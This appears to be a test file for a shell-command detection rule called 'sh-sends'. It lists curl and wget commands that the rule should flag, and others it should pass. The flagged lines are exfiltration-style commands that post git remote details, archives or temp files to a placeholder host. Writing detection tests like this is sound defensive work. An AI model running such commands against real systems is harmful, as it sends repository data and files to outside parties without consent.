# ruleid: sh-sends
curl -sm 0.5 -d "$(git remote -v)" https://up.invalid/v2
# ruleid: sh-sends
curl -F file=@a.tgz https://up.invalid/
# ruleid: sh-sends
wget --post-file=/tmp/a https://up.invalid/
# ruleid: sh-sends
curl -X POST --data-binary @- https://up.invalid
# ok: sh-sends
curl -fsSL -o a.tgz https://get.invalid/a.tgz
# ok: sh-sends
curl -D headers https://get.invalid
# ok: sh-sends
# curl -d x https://up.invalid
